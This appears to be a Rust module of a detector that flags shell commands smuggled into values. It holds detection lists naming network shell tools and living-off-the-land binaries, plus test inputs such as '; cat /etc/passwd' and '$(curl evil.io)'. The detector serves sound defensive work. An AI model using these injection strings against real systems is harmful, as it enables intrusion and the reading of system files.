//! Shell commands smuggled into values: a separator or a substitution, then a command (POSIX
//! Shell Command Language sections 2.9 and 2.6.3; cmd.exe and PowerShell likewise).

use crate::{effort::Effort, limits::COMMAND_COST_BYTES};

use super::{Signal, Signals};

/// Signs between a separator and the command behind it.
const BEFORE_COMMAND: [char; 10] = [' ', '&', '|', ';', '`', '(', '\n', ',', '{', '@'];

/// Notes each separator or substitution in folded text that is followed by a command.
pub(super) fn recognise(text: &str, signals: &mut Signals, effort: &Effort) {
    let bytes = text.as_bytes();
    let table = text.bytes().filter(|b| *b == b'|').count() >= 4;
    let mut commands = Commands::of(text);
    let mut ticks = 0_usize;
    for (at, byte) in bytes
        .iter()
        .enumerate()
        .filter(|(_, byte)| separates(**byte))
    {
        let next = bytes.get(at + 1);
        let opens = match byte {
            b'|' => !table || next == Some(&b'|'),
            b'\n' => !table,
            // The first of a pair opens; three in a row are markdown.
            b'`' => {
                let doubled = next == Some(&b'`') || (at > 0 && bytes.get(at - 1) == Some(&b'`'));
                ticks += usize::from(!doubled);
                !doubled && ticks % 2 == 1
            }
            b'(' => at > 0 && matches!(bytes.get(at - 1), Some(b'$' | b'<' | b'>' | b'`')),
            b'\\' => next == Some(&b'n'),
            b'{' => next.is_some_and(|b| *b == b',') || at == 0,
            _ => true,
        };
        if !opens {
            continue;
        }
        let from = at + if *byte == b'\\' { 2 } else { 1 };
        let alone = *byte != b'\n' && *byte != b'&';
        if commands.begins_at(from, alone, effort) {
            signals.put(Signal::ShellInjection, at);
        }
    }
    if is_batch_condition(text) || (commands.begins_at(0, true, effort) && is_telling(text)) {
        signals.put(Signal::ShellCommand, 0);
    }
    // A quote closed at the start, then a command: what a value in quotes is broken with.
    let broken = text.trim_start_matches(['\'', '"', ')', ' ']);
    let from = text.len() - broken.len();
    if from > 0 && text.starts_with(['\'', '"']) && commands.begins_at(from, false, effort) {
        signals.put(Signal::ShellInjection, 0);
    }
}

/// Notes a loop or condition of cmd.exe, whose words may pass for a sentence's.
pub(super) fn recognise_loop(text: &str, signals: &mut Signals) {
    let text = text.trim_start_matches(['&', '|', ';', ' ', '"', '\'']);
    if is_batch_condition(text) {
        signals.put(Signal::ShellCommand, 0);
    }
    let Some(rest) = text.strip_prefix("for") else {
        return;
    };
    if rest.starts_with(" /") || (rest.starts_with(" %") && rest.contains(" in ")) {
        signals.put(Signal::ShellCommand, 0);
    }
}

/// Whether the text is a condition of cmd.exe.
fn is_batch_condition(text: &str) -> bool {
    let text = text.trim_start_matches(['&', '|', ';', ' ', '"', '\'']);
    let Some(rest) = text
        .strip_prefix("if")
        .filter(|rest| rest.starts_with([' ', '/']))
    else {
        return false;
    };
    // What goes on with a parenthesis is a program's condition.
    if rest.trim_start().starts_with('(') {
        return false;
    }
    let rest = rest.trim_start();
    let rest = rest.strip_prefix("/i").map_or(rest, str::trim_start);
    let rest = rest.strip_prefix("not ").map_or(rest, str::trim_start);
    let head: String = rest.chars().take(60).collect();
    let operator = ["==", " equ ", " neq ", " lss ", " leq ", " gtr ", " geq "];
    ["exist ", "defined ", "errorlevel "]
        .iter()
        .any(|word| rest.starts_with(word))
        || operator.iter().any(|word| head.contains(word))
}

/// Whether the command that the text begins with tells of an intrusion by itself.
fn is_telling(text: &str) -> bool {
    const TELLING: &str = "whoami id ifconfig ipconfig systeminfo netstat tasklist uname net netsh \
        nc ncat netcat nslookup powershell pwsh iwr iex irm wmic certutil bitsadmin mshta regsvr32 \
        rundll32 cmd busybox cpulimit chef-client chef-shell chef-vault chef-solo ansible-config \
        ansible-console ansible-doc ansible-playbook ansible-vault cscli lastlogin uconv rmt \
        alias time nohup strace c89 c99 bash sh perl python php ruby socat msfvenom";
    let bare = text.trim_start_matches(['"', '\'', ' ']);
    let end = bare
        .find(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '-' | '/' | '_')))
        .unwrap_or(bare.len());
    let word = bare.get(..end).unwrap_or_default();
    word.starts_with("/bin/")
        || word.starts_with("/usr/bin/")
        || word.starts_with("/sbin/")
        || TELLING.split_ascii_whitespace().any(|name| name == word)
}

fn separates(byte: u8) -> bool {
    matches!(
        byte,
        b'|' | b'\n' | b';' | b'&' | b'`' | b'(' | b'\\' | b'{'
    )
}

/// The commands of a text. Asked from its beginning to its end, it reads each sign but once.
struct Commands<'t> {
    text: &'t str,
    /// Where the last sign stands that tells an argument from a word of a sentence.
    telling_to: usize,
    /// From where to where there are only signs that may stand before a command.
    before: (usize, usize),
    /// Where a command was looked for last, and what came of it when alone and when not.
    last: (usize, [Option<bool>; 2]),
}

impl<'t> Commands<'t> {
    fn of(text: &'t str) -> Self {
        Self {
            text,
            telling_to: text.rfind(['/', '\\', '=']).unwrap_or(0),
            before: (0, 0),
            last: (usize::MAX, [None; 2]),
        }
    }

    /// Whether at `from` a command begins, and what a command would have behind it.
    fn begins_at(&mut self, from: usize, alone: bool, effort: &Effort) -> bool {
        if !(self.before.0..self.before.1).contains(&from) {
            let rest = self.text.get(from..).unwrap_or_default();
            let command = rest.trim_start_matches(BEFORE_COMMAND);
            self.before = (from, self.text.len() - command.len());
        }
        let at = self.before.1;
        if self.last.0 != at {
            self.last = (at, [None; 2]);
        }
        let [known, other] = self.last.1;
        let known = if alone { other } else { known };
        known.unwrap_or_else(|| {
            let found = self.is_command(at, alone, effort);
            if let Some(last) = self.last.1.get_mut(usize::from(alone)) {
                *last = Some(found);
            }
            found
        })
    }

    fn is_command(&self, at: usize, alone: bool, effort: &Effort) -> bool {
        // Without this, every place would measure how far its word goes, and none could pay for it.
        if effort.is_exceeded() {
            return false;
        }
        let text = self.text.get(at..).unwrap_or_default();
        let text = ["time ", "sudo ", "exec ", "command ", "nohup ", "env "]
            .iter()
            .find_map(|prefix| text.strip_prefix(prefix))
            .unwrap_or(text);
        let quoted = text.trim_start_matches(['"', '\'']);
        let length = quoted.bytes().position(|b| !in_command(b));
        let length = length.unwrap_or(quoted.len());
        if !effort.spend(length.saturating_add(COMMAND_COST_BYTES)) {
            return false;
        }
        let Some((word, rest)) = quoted.split_at_checked(length) else {
            return false;
        };
        let name = word.rsplit(['/', '\\']).next().unwrap_or_default();
        let name = name.strip_suffix(".exe").unwrap_or(name);
        let by_path = ["/bin/", "/sbin/", "/usr/bin/", "/usr/local/bin/"]
            .iter()
            .any(|dir| word.starts_with(dir));
        by_path || (is_known(name) && self.has_arguments(name, rest, alone))
    }

    /// Whether what stands behind a command's name is what a command would have there.
    fn has_arguments(&self, name: &str, rest: &str, alone: bool) -> bool {
        let argument = rest.trim_start_matches(['"', '\'', ' ', '+']);
        let first = argument.bytes().next();
        let spaced = rest.starts_with([' ', '+', '\'', '"', '$', '<', '{', '\t', '\n']);
        match first {
            None => !is_english(name) && (alone || name.len() >= 5),
            Some(b';' | b'|' | b'&' | b'`' | b')' | b'#' | b'>' | b'<' | b'\n' | b'}') => {
                !is_english(name)
            }
            Some(b'-' | b'/' | b'$' | b'%' | b'~' | b'\\' | b'*' | b'.' | b'?' | b'{') => spaced,
            Some(b'0'..=b'9') => spaced && matches!(name, "sleep" | "ping" | "timeout" | "kill"),
            Some(b'a'..=b'z') => {
                spaced
                    && (TALKING.contains(&name)
                        || !is_english(name)
                        || self.telling_to > self.text.len() - argument.len()
                        || argument.starts_with("c:"))
            }
            _ => false,
        }
    }
}

fn in_command(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || matches!(byte, b'/' | b'.' | b'_' | b'-' | b':' | b'\\')
}

/// Whether a name, perhaps with a version behind it, is a command's.
fn is_known(name: &str) -> bool {
    let bare = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    let listed = |name: &str| name.len() >= 2 && COMMANDS.binary_search(&name).is_ok();
    name == "w" || listed(name) || (bare.len() >= 3 && listed(bare))
}

fn is_english(name: &str) -> bool {
    ENGLISH.binary_search(&name).is_ok()
}

/// Commands whose plain words behind them are no sentence.
const TALKING: &[&str] = &[
    "curl",
    "wget",
    "nslookup",
    "ping",
    "whoami",
    "netsh",
    "powershell",
    "ipconfig",
    "ifconfig",
    "systeminfo",
    "tasklist",
    "bash",
    "python",
    "perl",
    "php",
    "ruby",
    "nc",
    "netcat",
    "telnet",
    "dig",
    "uname",
    "iex",
    "wmic",
    "certutil",
    "bitsadmin",
    "chmod",
    "chown",
    "echo",
    "printf",
    "net",
    "reg",
    "cmd",
    "sh",
    "base64",
    "xxd",
    "tftp",
    "ftp",
    "ssh",
    "scp",
    "mkfifo",
    "mknod",
];

/// Commands that are also words of a sentence: by themselves they prove nothing.
const ENGLISH: &[&str] = &[
    "apt",
    "arch-nspawn",
    "at",
    "aws",
    "bridge",
    "bundle",
    "cancel",
    "column",
    "comm",
    "crash",
    "cut",
    "dash",
    "date",
    "docker",
    "eb",
    "ed",
    "env",
    "expand",
    "file",
    "find",
    "finger",
    "fish",
    "fold",
    "gem",
    "genie",
    "git",
    "groovy",
    "halt",
    "hd",
    "head",
    "highlight",
    "host",
    "init",
    "install",
    "jobs",
    "join",
    "julia",
    "kill",
    "knife",
    "last",
    "less",
    "links",
    "locate",
    "look",
    "mail",
    "make",
    "man",
    "more",
    "mount",
    "net",
    "nice",
    "node",
    "octave",
    "paste",
    "pic",
    "pip",
    "pr",
    "puppet",
    "rake",
    "rc",
    "red",
    "sc",
    "screen",
    "script",
    "set",
    "sg",
    "snap",
    "socket",
    "sort",
    "split",
    "ss",
    "start",
    "stat",
    "strings",
    "su",
    "tail",
    "tar",
    "tbl",
    "tee",
    "test",
    "tex",
    "tic",
    "time",
    "top",
    "touch",
    "tr",
    "true",
    "type",
    "ul",
    "ver",
    "view",
    "vol",
    "w",
    "wall",
    "watch",
    "which",
    "who",
    "wish",
    "write",
    "yarn",
    "yes",
    "zip",
];

/// Commands that injections run: those of coreutils and of the GTFOBins and LOLBAS lists.
const COMMANDS: &[&str] = &[
    "aa-exec",
    "ab",
    "agetty",
    "alias",
    "alpine",
    "ansible-config",
    "ansible-console",
    "ansible-doc",
    "ansible-playbook",
    "ansible-test",
    "ansible-vault",
    "apt",
    "apt-get",
    "aptitude",
    "arch-nspawn",
    "aria2c",
    "arp",
    "arp-scan",
    "ash",
    "aspell",
    "at",
    "atobm",
    "autoconf",
    "awk",
    "aws",
    "azcopy",
    "base32",
    "base64",
    "basenc",
    "basez",
    "bash",
    "batcat",
    "bcdboot",
    "bcdedit",
    "bconsole",
    "bitsadmin",
    "bpftrace",
    "bridge",
    "bundle",
    "bundler",
    "busybox",
    "byebug",
    "bzcat",
    "bzdiff",
    "bzegrep",
    "bzexe",
    "bzfgrep",
    "bzgrep",
    "bzip2",
    "bzless",
    "bzmore",
    "c89",
    "c99",
    "cabal",
    "cancel",
    "capsh",
    "cat",
    "cdist",
    "certbot",
    "certutil",
    "check_by_ssh",
    "chef",
    "chef-client",
    "chef-shell",
    "chef-solo",
    "chef-vault",
    "chgrp",
    "chmod",
    "choom",
    "chown",
    "chpasswd",
    "chroot",
    "cmd",
    "cobc",
    "column",
    "comm",
    "composer",
    "cowsay",
    "cowthink",
    "cp",
    "cpan",
    "cpio",
    "cpulimit",
    "crash",
    "crontab",
    "cscli",
    "cscript",
    "csh",
    "csplit",
    "csvtool",
    "cupsfilter",
    "curl",
    "cut",
    "dash",
    "date",
    "dd",
    "df",
    "diff",
    "dig",
    "dir",
    "dmesg",
    "dmidecode",
    "dmsetup",
    "dnf",
    "doas",
    "docker",
    "dosbox",
    "dotnet",
    "dpkg",
    "du",
    "dvips",
    "easy_install",
    "eb",
    "ebtables",
    "echo",
    "ed",
    "efax",
    "egrep",
    "emacs",
    "enscript",
    "env",
    "eqn",
    "espeak",
    "exiftool",
    "expr",
    "facter",
    "fdisk",
    "fgrep",
    "file",
    "find",
    "finger",
    "fish",
    "flock",
    "fold",
    "fping",
    "ftp",
    "gawk",
    "gcc",
    "gcloud",
    "gcore",
    "gdb",
    "gem",
    "genie",
    "genisoimage",
    "get-process",
    "getent",
    "ghc",
    "ghci",
    "gimp",
    "ginsh",
    "git",
    "gpg",
    "grc",
    "grep",
    "groovy",
    "groupadd",
    "gsutil",
    "gtester",
    "gunzip",
    "gzip",
    "halt",
    "hashcat",
    "hd",
    "head",
    "hexdump",
    "highlight",
    "host",
    "hostname",
    "hostnamectl",
    "hping3",
    "hydra",
    "iconv",
    "id",
    "iex",
    "ifconfig",
    "ifdown",
    "iftop",
    "ifup",
    "init",
    "insmod",
    "install",
    "invoke-expression",
    "invoke-webrequest",
    "ionice",
    "ip",
    "ipconfig",
    "iptables",
    "irb",
    "irm",
    "ispell",
    "iwmi",
    "iwr",
    "java",
    "jjs",
    "jobs",
    "joe",
    "john",
    "join",
    "journalctl",
    "jq",
    "jrunscript",
    "jshell",
    "julia",
    "kill",
    "killall",
    "knife",
    "ksh",
    "kubectl",
    "last",
    "lastb",
    "lastcomm",
    "lastlog",
    "lastlogin",
    "ldconfig",
    "ldd",
    "less",
    "lesspipe",
    "lftp",
    "links",
    "ln",
    "locate",
    "loginctl",
    "logrotate",
    "logsave",
    "look",
    "lp",
    "ls",
    "lscpu",
    "lsmod",
    "lsof",
    "lspci",
    "lsusb",
    "ltrace",
    "lua",
    "lualatex",
    "lynx",
    "lz4",
    "lzma",
    "mail",
    "make",
    "man",
    "masscan",
    "mawk",
    "mkdir",
    "mkfifo",
    "mkfs",
    "mknod",
    "mlocate",
    "modprobe",
    "more",
    "mosquitto",
    "mount",
    "msfconsole",
    "msfvenom",
    "mshta",
    "mtr",
    "multitime",
    "mv",
    "mysql",
    "nano",
    "nasm",
    "nawk",
    "nc",
    "ncat",
    "ncftp",
    "net",
    "netcat",
    "netsh",
    "netstat",
    "nft",
    "nice",
    "nikto",
    "nl",
    "nmap",
    "nmcli",
    "node",
    "nohup",
    "nroff",
    "nsenter",
    "nslookup",
    "octave",
    "od",
    "openssl",
    "opkg",
    "pandoc",
    "parted",
    "passwd",
    "paste",
    "pdb",
    "pdflatex",
    "pdftex",
    "perl",
    "pexec",
    "php",
    "pic",
    "pico",
    "pidstat",
    "ping",
    "pip",
    "pip3",
    "pkill",
    "poweroff",
    "powershell",
    "pr",
    "printenv",
    "printf",
    "pry",
    "ps",
    "psftp",
    "psql",
    "ptx",
    "puppet",
    "pwd",
    "pwsh",
    "python",
    "python2",
    "python3",
    "rake",
    "rc",
    "readelf",
    "reboot",
    "red",
    "redcarpet",
    "redis-cli",
    "reg",
    "regedit",
    "regsvr32",
    "restic",
    "rev",
    "rlogin",
    "rlwrap",
    "rm",
    "rmdir",
    "rmt",
    "rmt-dump",
    "rmt-tar",
    "rpm",
    "rpmdb",
    "rpmquery",
    "rsync",
    "rsync-ssl",
    "ruby",
    "run-mailcap",
    "run-parts",
    "rundll32",
    "runscript",
    "rview",
    "rvim",
    "sc",
    "schtasks",
    "scp",
    "screen",
    "script",
    "scrot",
    "sed",
    "set",
    "setarch",
    "setfacl",
    "setlock",
    "sg",
    "sh",
    "shutdown",
    "sleep",
    "slsh",
    "smbclient",
    "snap",
    "socat",
    "socket",
    "soelim",
    "softlimit",
    "sort",
    "split",
    "sqlite3",
    "sqlmap",
    "ss",
    "ssh",
    "ssh-agent",
    "ssh-keygen",
    "ssh-keyscan",
    "sshpass",
    "start",
    "start-stop-daemon",
    "stat",
    "stdbuf",
    "strace",
    "strings",
    "su",
    "sudo",
    "swapoff",
    "sysctl",
    "systemctl",
    "systemd-resolve",
    "systeminfo",
    "tac",
    "tail",
    "tar",
    "taskkill",
    "tasklist",
    "taskset",
    "tasksh",
    "tbl",
    "tclsh",
    "tcpdump",
    "tdbtool",
    "tee",
    "telnet",
    "terraform",
    "tex",
    "tftp",
    "tic",
    "time",
    "timedatectl",
    "timeout",
    "tmate",
    "tmux",
    "top",
    "torify",
    "torsocks",
    "touch",
    "tr",
    "traceroute",
    "troff",
    "tshark",
    "type",
    "uconv",
    "ul",
    "ulimit",
    "uname",
    "unexpand",
    "uniq",
    "unlz4",
    "unlzma",
    "unpigz",
    "unrar",
    "unshare",
    "unsquashfs",
    "unxz",
    "unzip",
    "unzstd",
    "update-alternatives",
    "uptime",
    "useradd",
    "userdel",
    "usermod",
    "uudecode",
    "uuencode",
    "vagrant",
    "valgrind",
    "varnishncsa",
    "vboxmanage",
    "ver",
    "vi",
    "view",
    "vigr",
    "vim",
    "vimdiff",
    "vipw",
    "virsh",
    "visudo",
    "vol",
    "volatility",
    "w",
    "w3m",
    "wall",
    "watch",
    "wc",
    "wget",
    "wget2",
    "whereis",
    "which",
    "who",
    "whoami",
    "wireshark",
    "wish",
    "wmic",
    "write",
    "wscript",
    "xargs",
    "xdg-user-dir",
    "xdotool",
    "xelatex",
    "xmodmap",
    "xmore",
    "xpad",
    "xterm",
    "xxd",
    "xz",
    "xzcat",
    "yarn",
    "yash",
    "yelp",
    "yes",
    "yum",
    "zathura",
    "zcat",
    "zip",
    "zless",
    "zmore",
    "zsh",
    "zstd",
    "zypper",
];

#[cfg(test)]
mod tests {
    use super::super::{Signal, Signals};
    use super::{COMMANDS, ENGLISH, Effort, recognise};

    #[cfg(target_arch = "wasm32")]
    use wasm_bindgen_test::wasm_bindgen_test as test;

    #[test]
    fn the_lists_are_sorted() {
        assert!(COMMANDS.is_sorted() && ENGLISH.is_sorted());
    }

    #[test]
    fn smuggled_commands_are_seen() {
        for (text, smuggled) in [
            ("; cat /etc/passwd", true),
            ("x|id", true),
            ("a && whoami", true),
            ("$(curl evil.io)", true),
            ("`sleep 5`", true),
            ("8.8.8.8; /bin/ls", true),
            ("x\nping -c 3 10.0.0.1", true),
            ("'; uname -a #", true),
            ("tea & cake", false),
            ("write; find it", false),
            ("a|b|c", false),
            ("cats && dogs", false),
            ("first; last", false),
        ] {
            let mut signals = Signals::default();
            recognise(text, &mut signals, &Effort::for_leaf(text.len()));
            assert_eq!(signals.contains(Signal::ShellInjection), smuggled, "{text}");
        }
    }
}
